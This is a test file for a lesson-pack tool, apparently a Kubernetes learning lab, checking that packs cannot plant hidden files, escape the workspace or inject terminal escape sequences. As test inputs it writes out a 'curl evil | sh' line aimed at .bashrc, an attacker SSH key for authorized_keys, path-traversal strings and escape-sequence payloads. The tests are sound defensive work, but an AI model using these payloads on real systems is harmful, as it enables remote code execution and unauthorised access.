// A lesson pack's starting files land only in a workspace the lab owns: a pack cannot put
// `.bashrc` or `.ssh/authorized_keys` anywhere, and a learner's own file of the same name is
// kept, never overwritten.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { main } from '../../cli/podlab';
import { formatProblem, loadCourse } from '../../lab';
import { lessonFilePathProblem, writeWorkspaceFile } from '../../lab/workspace';
import { MemFs } from '../../sim/fs/memfs';
import { firstPodLesson, samplePack } from '../lab/sample-pack';

let home: string;
let savedHome: string | undefined;
let savedCwd: string;

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'podlab-home-'));
  savedHome = process.env.HOME;
  savedCwd = process.cwd();
  process.env.HOME = home;
  process.chdir(home);
});

afterEach(() => {
  vi.restoreAllMocks();
  process.chdir(savedCwd);
  process.env.HOME = savedHome;
  rmSync(home, { recursive: true, force: true });
});

async function podlab(script: string, args: string[] = []): Promise<{ stdout: string; stderr: string; status: number }> {
  const scriptFile = join(home, '..', `${home.split('/').pop()}-script.sh`);
  writeFileSync(scriptFile, script);
  let stdout = '';
  let stderr = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => ((stdout += String(chunk)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => ((stderr += String(chunk)), true));
  try {
    const status = await main(['--script', scriptFile, ...args]);
    return { stdout, stderr, status };
  } finally {
    vi.restoreAllMocks();
    rmSync(scriptFile, { force: true });
  }
}

function hostilePack(): string {
  const pack = join(home, 'downloads', 'pack');
  const lesson = firstPodLesson.replace('notes/answer.txt: ""', '".bashrc": "curl evil | sh"\n          ".ssh/authorized_keys": "ssh-ed25519 AAAA attacker"');
  for (const [path, content] of samplePack()) {
    mkdirSync(join(pack, path, '..'), { recursive: true });
    writeFileSync(join(pack, path), path === '01-first-pod/lesson.yaml' ? lesson : content);
  }
  return pack;
}

describe('starting files of a lesson pack', () => {
  it('cd ~ && podlab --lessons pack: the pack cannot touch ~/.bashrc or ~/.ssh', async () => {
    writeFileSync(join(home, '.bashrc'), 'my own bashrc\n');
    const pack = hostilePack();
    const run = await podlab('lab start remove-old\nls -a', ['--lessons', pack]);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('my own bashrc\n');
    expect(existsSync(join(home, '.ssh'))).toBe(false);
    expect(existsSync(join(home, '.podlab', 'workspace', '.bashrc'))).toBe(false);
    expect(run.stderr).toContain('01-first-pod/lesson.yaml: steps[2].exercise.start.files[".bashrc"]: path .bashrc names a hidden file (.bashrc): lessons may not write hidden files');
    expect(run.stderr).toContain('start.files[".ssh/authorized_keys"]: path .ssh/authorized_keys names a hidden file (.ssh)');
    expect(run.stdout).toContain('lab: unknown exercise "remove-old"');
  });

  it('without --workspace the shell works in ~/.podlab/workspace, not the current folder', async () => {
    writeFileSync(join(home, 'report.yaml'), 'my own report\n');
    const run = await podlab('lab start run-once\npwd\nls');
    expect(run.stderr).toBe('');
    expect(readFileSync(join(home, 'report.yaml'), 'utf8')).toBe('my own report\n');
    expect(readFileSync(join(home, '.podlab', 'workspace', 'report.yaml'), 'utf8')).toContain('kind: Pod');
  });

  it('with --workspace . a file of the same name is kept aside and the learner told', async () => {
    writeFileSync(join(home, 'report.yaml'), 'my own report\n');
    const run = await podlab('lab start run-once\nlab start run-once\nls', ['--workspace', '.']);
    expect(readFileSync(join(home, 'report.yaml.~1~'), 'utf8')).toBe('my own report\n');
    expect(readFileSync(join(home, 'report.yaml'), 'utf8')).toContain('kind: Pod');
    // Said once: starting again writes the same file, so there is nothing to keep.
    expect(run.stdout.match(/podlab: report\.yaml already existed: your version is kept as report\.yaml\.~1~\n/g)).toHaveLength(1);
    expect(run.stdout).not.toContain('.~2~');
  });

  it('the loader names every refused path; run time refuses them too', () => {
    for (const [path, message] of [
      ['.bashrc', 'path .bashrc names a hidden file (.bashrc): lessons may not write hidden files'],
      ['conf/.ssh/authorized_keys', 'path conf/.ssh/authorized_keys names a hidden file (.ssh): lessons may not write hidden files'],
      ['../x', 'path ../x leaves the workspace'],
      ['/etc/passwd', 'path /etc/passwd leaves the workspace'],
      ['..\\..\\x', 'path ..\\..\\x leaves the workspace'],
      ['C:/Users/x', 'path C:/Users/x leaves the workspace'],
      ['a\u001b[2Jb', 'path "a\\u001b[2Jb" contains control characters'],
      ['./', 'path "./" names no file'],
    ]) {
      expect(lessonFilePathProblem(path)).toBe(message);
      expect(() => writeWorkspaceFile(new MemFs(), '/', path, 'x')).toThrow(message);
    }
    expect(lessonFilePathProblem('notes/answer.txt')).toBeUndefined();
    const lesson = firstPodLesson.replace('notes/answer.txt: ""', '".profile": ""').replace('- run: kubectl delete pod old', '- write: { path: ../escape, content: x }\n        - run: kubectl delete pod old');
    const files = samplePack();
    files.set('01-first-pod/lesson.yaml', lesson);
    const problems = loadCourse(files, { label: 'pack' }).problems.map(formatProblem);
    expect(problems).toContain('pack/01-first-pod/lesson.yaml: steps[2].exercise.start.files[".profile"]: path .profile names a hidden file (.profile): lessons may not write hidden files');
    expect(problems.some((problem) => problem.endsWith('.write.path: path ../escape leaves the workspace'))).toBe(true);
  });
});

describe('text of a lesson pack', () => {
  it('escape sequences in titles and text never reach the terminal through lab list', async () => {
    const pack = join(home, 'pack');
    for (const [path, content] of samplePack()) {
      mkdirSync(join(pack, path, '..'), { recursive: true });
      const hostile = path.endsWith('lesson.yaml') ? content.replace('title: { en: Your first Pod,', 'title: { en: "Your \\e]52;c;ZXZpbA==\\afirst\\e[2J Pod",') : content;
      writeFileSync(join(pack, path), hostile);
    }
    const run = await podlab('lab list', ['--lessons', pack, '--workspace', '.']);
    expect(run.stdout).toContain('1. Your ]52;c;ZXZpbA==first[2J Pod (first-pod)');
    // eslint-disable-next-line no-control-regex
    expect(run.stdout).not.toMatch(/[\u001b\u0007]/);
  });
});
